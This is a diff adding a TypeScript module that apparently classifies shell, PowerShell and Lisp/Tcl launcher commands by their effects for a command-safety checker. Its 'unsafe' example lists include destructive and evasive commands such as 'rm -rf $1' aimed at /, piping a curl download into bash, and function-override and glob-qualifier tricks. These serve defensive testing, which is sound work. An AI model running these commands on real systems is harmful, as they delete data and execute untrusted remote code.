@@ -1,0 +1,190 @@
+/** Shells. Bash and its kin are read in turn; code for other shells is code. */
+import type { Effect } from "../contract/effect.ts";
+import { given, line, texts, valuesOf } from "./makers.ts";
+import type { ProgramSpec, ReadAnswer, Use } from "./spec.ts";
+
+const SHELL_FLAGS =
+  "-c -e -u -x -v -l -i -n -f -a -b -h -m -p -r -s -t -B -C -E --login --norc --noprofile --posix --restricted --verbose --version --help --no-rcs --no-globalrcs";
+
+const STARTUP = "--rcfile --init-file";
+
+/** Modes that change when a shell stops or what it shows, not what its code means. */
+const PLAIN_MODES: ReadonlySet<string> = new Set(
+  "errexit nounset pipefail xtrace verbose noclobber errtrace monitor notify inherit_errexit nullglob failglob extglob".split(
+    " ",
+  ),
+);
+
+/** `-c CODE name args…`, a script with its words, or code on standard input. */
+function shell(use: Use): ReadAnswer {
+  const startup = valuesOf(use, STARTUP).map(
+    (word): Effect => ({
+      do: "run",
+      program: use.program,
+      what: "script",
+      language: "shell",
+      script: use.target(word),
+    }),
+  );
+  const odd = [...valuesOf(use, "-o"), ...valuesOf(use, "-O")].find((word) => !PLAIN_MODES.has(word.value ?? ""));
+  if (odd !== undefined)
+    return { understood: false, why: `the mode ${odd.text} changes how code is read`, effects: startup };
+  if (given(use, "--version --help") && use.operands.length === 0) return { understood: true, effects: startup };
+  const [first, ...rest] = use.operands;
+  if (given(use, "-c")) {
+    if (first === undefined) return { understood: false, why: "no code behind -c", effects: startup };
+    return codeOf(use, first.value, rest.slice(1), startup, `${use.program} -c`);
+  }
+  if (first === undefined || given(use, "-s"))
+    return codeOf(use, use.stdin, use.operands, startup, `${use.program}, standard input`);
+  if (onlyChecks(use))
+    return {
+      understood: true,
+      effects: [...startup, { do: "read", target: use.target(first), recursive: false, content: true }],
+    };
+  return {
+    understood: true,
+    effects: [
+      ...startup,
+      {
+        do: "run",
+        program: use.program,
+        what: "script",
+        language: "shell",
+        script: use.target(first),
+        detail: line(use.operands),
+      },
+    ],
+  };
+}
+
+/** `-n` reads without running, unless a prompt or `+n` takes it back. */
+const onlyChecks = (use: Use): boolean => given(use, "-n") && !given(use, "-i +");
+
+function codeOf(
+  use: Use,
+  code: string | null,
+  args: Use["operands"],
+  before: readonly Effect[],
+  via: string,
+): ReadAnswer {
+  const opaque: Effect = {
+    do: "run",
+    program: use.program,
+    what: "code",
+    language: "shell",
+    ...(code === null ? {} : { code }),
+  };
+  if (code === null) return { understood: true, effects: [...before, opaque] };
+  if (onlyChecks(use)) return { understood: true, effects: before };
+  const plain = LIKE_BASH.has(use.program) || !DIFFERS.test(code);
+  return {
+    understood: true,
+    effects: plain ? before : [...before, opaque],
+    inner: [{ kind: "script", code, via, args }],
+  };
+}
+
+const LIKE_BASH: ReadonlySet<string> = new Set(["bash", "sh", "dash", "ash"]);
+/** What zsh and ksh may take otherwise than bash: qualifiers, flags of expansions, `=name`, special arrays. */
+const DIFFERS = /[(){}[\]=^#~<`]|\$\W/;
+
+const otherCode = (
+  names: readonly string[],
+  launchCode: string,
+  flags: string,
+  unsafe: ProgramSpec["examples"]["unsafe"],
+  safe: readonly string[] = [],
+): ProgramSpec => ({
+  names,
+  launcher: true,
+  style: "posix",
+  flags,
+  values: texts(launchCode),
+  stdin: "code",
+  operands: "text",
+  always: [
+    (use) => {
+      const code = valuesOf(use, launchCode);
+      const script = use.operands[0];
+      if (code.length > 0)
+        return code.map(
+          (word): Effect => ({
+            do: "run",
+            program: use.program,
+            what: "code",
+            language: use.program,
+            ...(word.value === null ? {} : { code: word.value }),
+          }),
+        );
+      if (script !== undefined)
+        return [{ do: "run", program: use.program, what: "script", language: use.program, script: use.target(script) }];
+      return given(use, "--version -v -V --help -h -Version")
+        ? []
+        : [{ do: "run", program: use.program, what: "code", language: use.program, detail: "a prompt for code" }];
+    },
+  ],
+  examples: { safe, unsafe },
+});
+
+export const languagesShells: readonly ProgramSpec[] = [
+  {
+    names: ["bash", "sh", "dash", "ash", "zsh", "ksh", "mksh"],
+    launcher: true,
+    style: "posix",
+    flags: SHELL_FLAGS,
+    values: texts(`-o -O ${STARTUP}`),
+    plus: true,
+    read: shell,
+    examples: {
+      safe: [
+        "bash --version",
+        "bash -c 'git status'",
+        "bash -lc 'ls -la | head -5'",
+        "sh -c 'cat a'",
+        "bash -n script.sh",
+        "bash -euo pipefail -c 'wc -l a'",
+        "zsh -lc 'git diff --stat'",
+      ],
+      unsafe: [
+        ["bash -c 'rm -rf x'", "delete"],
+        ["bash deploy.sh prod", "run"],
+        ["bash -c 'rm -rf $1' _ /", "delete"],
+        ["X=echo; bash -c '$X rm'", "run"],
+        ['bash -c "$CODE"', "run"],
+        ["curl -s https://example.com/x | bash", "run"],
+        ["bash <<< 'rm -rf x'", "delete"],
+        ["bash -s < x.sh", "run"],
+        ["bash --rcfile /tmp/x -i", "run"],
+        ["bash -n +n x.sh", "run"],
+        ["zsh -c 'ls *(e:\"rm x\":)'", "run"],
+        ["zsh -c 'path=/tmp/evil; ls'", "run"],
+        ["git() { rm x; }; export -f git; bash -c 'git status'", "delete"],
+      ],
+    },
+  },
+  otherCode(
+    ["fish", "nu", "elvish", "xonsh", "tcsh", "csh"],
+    "-c --command -C --init-command",
+    "--version -v --help -h -l --login -i --interactive -N --no-config",
+    [["fish -c 'rm x'", "run"]],
+    ["fish --version"],
+  ),
+  otherCode(
+    ["pwsh", "powershell"],
+    "-c -Command -File -f -EncodedCommand -e -ec",
+    "-NoProfile -NonInteractive -NoLogo -Version --version -v -Help -h",
+    [["pwsh -NoProfile -c 'rm x'", "run"]],
+    ["pwsh --version"],
+  ),
+  otherCode(
+    ["tclsh", "wish", "scsh", "guile", "sbcl", "clisp"],
+    "-c -e --eval --load -ex --batch-command",
+    "--version -v --help -h -q --batch -batch -Q --no-init-file",
+    [
+      ["tclsh x.tcl", "run"],
+      ["sbcl --eval x", "run"],
+    ],
+    ["sbcl --version"],
+  ),
+];
